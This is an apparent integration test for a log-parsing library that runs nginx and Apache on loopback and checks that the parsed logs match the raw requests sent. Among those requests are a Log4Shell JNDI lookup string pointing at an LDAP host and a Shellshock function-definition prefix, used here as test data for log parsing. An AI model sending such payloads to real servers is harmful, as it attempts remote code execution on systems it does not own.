/**
 * What real servers write is read back as what was sent: nginx and Apache on the loopback interface, a bounded number of
 * raw requests, and their logs.
 */
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { accessLog } from '../src/extract/log/access-log.ts';
import { errorLog } from '../src/extract/log/error-log.ts';
import { jsonLog } from '../src/extract/log/json-log.ts';
import type { LogEvent } from '../src/model/log-event.ts';
import type { LogFormat } from '../src/model/log-units.ts';
import { hasPeer } from './peer.ts';
import { readLog } from './read-log.ts';
import { temporaryFolder } from './temporary-folder.ts';

const nginx = '/usr/sbin/nginx';
const apache = '/usr/sbin/apache2';
const modules = '/usr/lib/apache2/modules';
const longestWaitMs = 5_000;
/** Somebody else may take the port between the look for one and the server's start. */
const patient = { timeout: 30_000, retry: 2 };

/** Raw requests; each on a connection of its own. */
const requests = [
  'GET /a/b?c=%24%7Bjndi:ldap://203.0.113.7/x%7D HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Browser "1" \\x\r\nReferer: http://www.example.org/\r\nConnection: close\r\n\r\n',
  'PROPFIND / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: \xc3\xa9\t;\r\nConnection: close\r\n\r\n',
  'GET /?q=() { :; }; HTTP/1.0\r\nUser-Agent: x\r\n\r\n',
  '\x16\x03\x01\x00\xf4\x01\x00\r\n\r\n',
];

async function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address !== null ? address.port : 0));
    });
  });
}

async function send(port: number, request: string): Promise<void> {
  await new Promise<void>((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(Buffer.from(request, 'latin1')));
    socket.setTimeout(longestWaitMs, () => socket.destroy());
    socket.on('data', () => undefined);
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
  });
}

async function answers(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.destroy();
      resolve(true);
    });
    socket.on('error', () => resolve(false));
  });
}

/** Runs the server until each request stands in its log. */
async function logsOf(command: string, args: readonly string[], port: number, log: string): Promise<void> {
  const server: ChildProcess = spawn(command, args, { stdio: 'ignore' });
  try {
    const end = Date.now() + longestWaitMs;
    while (!(await answers(port)) && Date.now() < end) await wait(50);
    for (const request of requests) await send(port, request);
    const written = (): number => (existsSync(log) ? readFileSync(log, 'latin1').split('\n').length - 1 : 0);
    while (written() < requests.length && Date.now() < end) await wait(50);
  } finally {
    const gone = new Promise((resolve) => server.on('exit', resolve));
    server.kill('SIGTERM');
    await gone;
  }
}

/** Every event of a log that the format takes for its own. */
function eventsOf(format: LogFormat, file: string): LogEvent[] {
  const bytes = readFileSync(file);
  expect(format.accepts(bytes.subarray(0, 4096), file)).toBe(true);
  return readLog(format, { input: bytes }, { latest: new Date().toISOString() }).events.map(({ event }) => event);
}

function expectRequests(events: readonly LogEvent[], status: number, noise: string): void {
  const [first, second, third, fourth] = events;
  expect(first?.fields).toMatchObject({
    'c-ip': '127.0.0.1',
    'cs-method': 'GET',
    'cs-uri-stem': '/a/b',
    'cs-uri-query': 'c=%24%7Bjndi:ldap://203.0.113.7/x%7D',
    'sc-status': status,
    'cs-user-agent': 'Browser "1" \\x',
    'cs-referer': 'http://www.example.org/',
  });
  expect(second?.fields).toMatchObject({ 'cs-method': 'PROPFIND', 'cs-uri-stem': '/', 'cs-user-agent': 'é\t;' });
  expect(third?.fields['cs-uri-query'] ?? third?.fields['request']).toContain('() {');
  expect(fourth?.fields['request']).toBe(noise);
  for (const { time } of events) expect(Math.abs((time?.ms ?? 0) - Date.now())).toBeLessThan(60_000);
}

describe.skipIf(!hasPeer(nginx, '-v'))('nginx', () => {
  it('writes what was asked for, plain, as JSON, and its errors', patient, async () => {
    const folder = temporaryFolder();
    const port = await freePort();
    const settings = `daemon off; master_process off; pid ${folder}/pid; error_log ${folder}/error.log info;
      events {}
      http {
        access_log ${folder}/access.log combined;
        log_format told escape=json '{"time_iso8601":"$time_iso8601","remote_addr":"$remote_addr","request":"$request","status":"$status","http_user_agent":"$http_user_agent"}';
        access_log ${folder}/access.json told;
        client_body_temp_path ${folder}; proxy_temp_path ${folder}; fastcgi_temp_path ${folder}; uwsgi_temp_path ${folder}; scgi_temp_path ${folder};
        server { listen 127.0.0.1:${port}; root ${folder}/none; }
      }`;
    writeFileSync(join(folder, 'nginx.conf'), settings);
    const access = join(folder, 'access.log');
    await logsOf(nginx, ['-c', join(folder, 'nginx.conf')], port, access);
    expectRequests(eventsOf(accessLog, access), 404, '\x16\x03\x01\x00\ufffd\x01\x00');
    const json = eventsOf(jsonLog, join(folder, 'access.json'));
    expect(json[0]?.fields).toMatchObject({ 'cs-uri-stem': '/a/b', 'cs-user-agent': 'Browser "1" \\x' });
    const errors = eventsOf(errorLog, join(folder, 'error.log'));
    expect(errors.find(({ fields }) => fields['level'] === 'error')?.fields).toMatchObject({
      'c-ip': '127.0.0.1',
      'cs-method': 'GET',
      'cs-uri-stem': '/a/b',
      'cs-host': 'www.example.com',
    });
  });
});

describe.skipIf(spawnSync(apache, ['-v']).status !== 0)('Apache', () => {
  it('writes what was asked for, and its errors', patient, async () => {
    const folder = temporaryFolder();
    const port = await freePort();
    mkdirSync(join(folder, 'pages'));
    const load = (name: string): string =>
      existsSync(`${modules}/mod_${name}.so`) ? `LoadModule ${name}_module ${modules}/mod_${name}.so` : '';
    const settings = `ServerRoot ${folder}
ServerName www.example.com
PidFile ${folder}/pid
Listen 127.0.0.1:${port}
${['mpm_event', 'authz_core'].map(load).join('\n')}
DocumentRoot ${folder}/pages
<Directory ${folder}/pages>
  Require all denied
</Directory>
LogLevel info
ErrorLog ${folder}/error.log
LogFormat "%v:%p %h %l %u %t \\"%r\\" %>s %O \\"%{Referer}i\\" \\"%{User-Agent}i\\"" vhost_combined
CustomLog ${folder}/access.log vhost_combined
`;
    writeFileSync(join(folder, 'apache.conf'), settings);
    const access = join(folder, 'access.log');
    await logsOf(apache, ['-f', join(folder, 'apache.conf'), '-DFOREGROUND'], port, access);
    const events = eventsOf(accessLog, access);
    expectRequests(events, 403, '\x16\x03\x01');
    expect(events[0]?.fields['cs-host']).toBe('www.example.com:80');
    const errors = eventsOf(errorLog, join(folder, 'error.log'));
    expect(errors.find(({ fields }) => fields['level'] === 'error')?.fields).toMatchObject({
      module: 'authz_core',
      'c-ip': '127.0.0.1',
      'cs-referer': 'http://www.example.org/',
    });
  });
});
